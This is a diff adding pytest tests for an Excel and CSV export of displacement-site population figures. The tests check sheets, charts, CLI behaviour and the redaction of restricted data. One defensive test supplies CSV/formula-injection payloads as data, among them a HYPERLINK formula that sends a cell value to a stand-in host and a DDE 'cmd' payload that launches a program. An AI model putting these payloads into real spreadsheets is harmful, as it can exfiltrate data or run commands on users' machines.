@@ -1,0 +1,233 @@
+"""The Excel export, re-opened with openpyxl (and LibreOffice when it is installed)."""
+
+import shutil
+import subprocess
+import zipfile
+from datetime import date, datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from dispstats.model.columns import FIGURE_COLUMNS
+from dispstats.model.records import Site, Source
+from dispstats.reports.excel import export_xlsx
+from dispstats.store import Store
+from dispstats.store.entry import add_figure
+
+from .conftest import TODAY
+
+W38_END = date(2018, 9, 23)
+SHEETS = ["Readme", "Summary", "Figures", "Weekly series", "Movements", "Sources", "History"]
+
+
+@pytest.fixture
+def demo_sqlite(sqlite_db):
+    store = Store.open(str(sqlite_db))
+    yield store
+    store.close()
+
+
+@pytest.fixture
+def workbook_path(demo_sqlite, tmp_path) -> Path:
+    return export_xlsx(demo_sqlite, tmp_path / "demo.xlsx", date_to=W38_END).path
+
+
+def all_cells(path: Path):
+    book = load_workbook(path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value is not None:
+                    yield sheet.title, cell
+
+
+def test_the_workbook_has_its_sheets_and_explains_itself(workbook_path):
+    book = load_workbook(workbook_path)
+    assert book.sheetnames == SHEETS
+    readme = {row[0]: row[1] for row in book["Readme"].iter_rows(values_only=True) if row[0]}
+    assert readme["As of"] == datetime(2018, 9, 23)
+    assert "recommended wins" in readme["Best-estimate rule"]
+    assert "Excerpt  #description+excerpt" in readme
+    assert book.properties.title == "dispstats export as of 2018-09-23"
+    assert book.properties.creator.startswith("dispstats")
+
+
+def test_figures_have_a_header_an_hxl_row_and_typed_values(workbook_path):
+    sheet = load_workbook(workbook_path)["Figures"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][: len(FIGURE_COLUMNS)] == tuple(c.header for c in FIGURE_COLUMNS)
+    assert rows[1][:4] == ("#meta+id", "#meta+version", "#loc+code", "#indicator+code")
+    header = rows[0]
+    ocha = next(r for r in rows[2:] if r[header.index("Source id")] == "ocha-2018-09")
+    assert ocha[header.index("Value (low)")] == 45000  # a number, not text
+    assert ocha[header.index("Reference start")] == datetime(2018, 9, 16)  # a real date
+    assert ocha[header.index("Publisher")] == "OCHA"
+    assert ocha[header.index("Value as reported")] == "approximately 45,000"
+    assert sheet.freeze_panes == "A3"
+    assert sheet.auto_filter.ref == f"A2:{sheet.cell(1, len(header)).column_letter}8"
+
+
+def test_the_summary_gives_the_best_estimate_and_the_weekly_series_its_source(workbook_path):
+    book = load_workbook(workbook_path)
+    summary = list(book["Summary"].iter_rows(values_only=True))
+    assert summary[1][:6] == ("rukban", "Rukban", 45000, 45000, "about", "OCHA")
+    weekly = [r for r in book["Weekly series"].iter_rows(values_only=True)][2:]
+    assert len(weekly) == 26
+    assert weekly[-1][2:6] == ("2018-W38", datetime(2018, 9, 23), 45000, 45000)
+    assert weekly[-1][7] == "OCHA"
+    movements = list(book["Movements"].iter_rows(values_only=True))
+    assert len(movements) == 4 and movements[1][0] == "#meta+id"
+
+
+def test_the_summary_has_native_charts_drawn_from_the_workbook_data(workbook_path):
+    with zipfile.ZipFile(workbook_path) as archive:
+        charts = sorted(n for n in archive.namelist() if n.startswith("xl/charts/chart"))
+        xml = [archive.read(n).decode() for n in charts]
+    assert len(charts) == 2
+    from lxml import etree
+
+    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
+    line, bars = (etree.fromstring(x.encode()) for x in xml)
+    assert line.find(".//c:lineChart", ns) is not None
+    refs = [f.text for f in line.iterfind(".//c:val//c:f", ns)]
+    assert refs and all(r.startswith("'Summary'!$B$") for r in refs)
+    # No invented curves between weekly values, and an axis that starts at zero.
+    assert [s.get("val") for s in line.iterfind(".//c:ser/c:smooth", ns)] == ["0"]
+    assert line.find(".//c:valAx/c:scaling/c:min", ns).get("val") == "0"
+    assert bars.find(".//c:barChart", ns) is not None
+    assert bars.find(".//c:cat//c:f", ns).text.startswith("'Summary'!$A$")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+2",
+        "-3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_text_never_becomes_a_formula(demo_sqlite, tmp_path, text):
+    demo_sqlite.add_site(Site("evil", text, kind="camp"))
+    add_figure(
+        demo_sqlite,
+        {
+            "site": "evil",
+            "indicator": "population",
+            "value": "10",
+            "date": "2018-09-20",
+            "source": "ocha-2018-09",
+            "excerpt": text,
+            "note": text,
+            "group": text,
+        },
+        today=TODAY,
+    )
+    path = export_xlsx(demo_sqlite, tmp_path / "evil.xlsx", date_to=W38_END).path
+    cells = [cell for _, cell in all_cells(path) if isinstance(cell.value, str)]
+    found = [c for c in cells if c.value == text.replace("\r", "\n") or c.value == text]
+    assert len(found) >= 4
+    assert all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+
+
+def test_public_exports_hold_no_restricted_name_number_or_excerpt(demo_sqlite, tmp_path):
+    demo_sqlite.add_site(
+        Site(
+            "secret",
+            "Secret Camp Zeta",
+            sensitivity="restricted",
+            latitude=33.123,
+            longitude=38.456,
+        )
+    )
+    demo_sqlite.add_source(Source("insider", "Insider Network", "local_network"))
+    add_figure(
+        demo_sqlite,
+        {
+            "site": "secret",
+            "indicator": "population",
+            "value": "98,765",
+            "date": "2018-09-18",
+            "source": "insider",
+            "excerpt": "whispered count",
+        },
+        today=TODAY,
+    )
+    add_figure(
+        demo_sqlite,
+        {
+            "site": "Rukban",
+            "indicator": "population",
+            "value": "43,210",
+            "date": "2018-09-19",
+            "source": "ocha-2018-09",
+            "sensitivity": "restricted",
+        },
+        today=TODAY,
+    )
+    public = export_xlsx(demo_sqlite, tmp_path / "p.xlsx", date_to=W38_END, public=True).path
+    texts = [str(cell.value) for _, cell in all_cells(public)]
+    with zipfile.ZipFile(public) as archive:
+        raw = b" ".join(archive.read(n) for n in archive.namelist()).decode("utf-8", "replace")
+    for secret in (
+        "Secret Camp Zeta",
+        "98765",
+        "98,765",
+        "43210",
+        "43,210",
+        "whispered",
+        "Insider Network",
+        "33.123",
+    ):
+        assert not any(secret in t for t in texts), secret
+        assert secret not in raw, secret
+    assert any("Public version" in t for t in texts)
+    internal = export_xlsx(demo_sqlite, tmp_path / "i.xlsx", date_to=W38_END).path
+    first_sheet = load_workbook(internal)["Readme"]
+    assert any("RESTRICTED" in str(c.value) for row in first_sheet.iter_rows() for c in row)
+
+
+def test_export_on_the_command_line(run, tmp_path, monkeypatch):
+    out = tmp_path / "cli.xlsx"
+    result = run("export", "xlsx", "--to", "2018-09-23", "-o", str(out))
+    assert result.exit_code == 0, result.output
+    assert "Figures 6" in result.output and out.exists()
+    csv_out = tmp_path / "figures.csv"
+    assert run("export", "csv", "-o", str(csv_out)).exit_code == 0
+    lines = csv_out.read_text().splitlines()
+    assert lines[1].startswith("#meta+id,#meta+version,#loc+code") and len(lines) == 8
+    bad = run("export", "xlsx", "-o", str(tmp_path / "missing" / "x.xlsx"))
+    assert bad.exit_code == 1 and "does not exist" in bad.output
+
+
+@pytest.mark.skipif(
+    shutil.which("soffice") is None,
+    reason="LibreOffice not installed (Debian libreoffice-calc; .ci/run has it)",
+)
+def test_libreoffice_opens_the_workbook_and_draws_its_charts(workbook_path, tmp_path):
+    done = subprocess.run(
+        [
+            "soffice",
+            "--headless",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(tmp_path),
+            str(workbook_path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    pdf = tmp_path / "demo.pdf"
+    assert done.returncode == 0 and pdf.exists(), done.stderr
+    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
+    assert "Population, weekly best estimate" in text and "Movements by route" in text
+    assert "approximately 45,000" in text
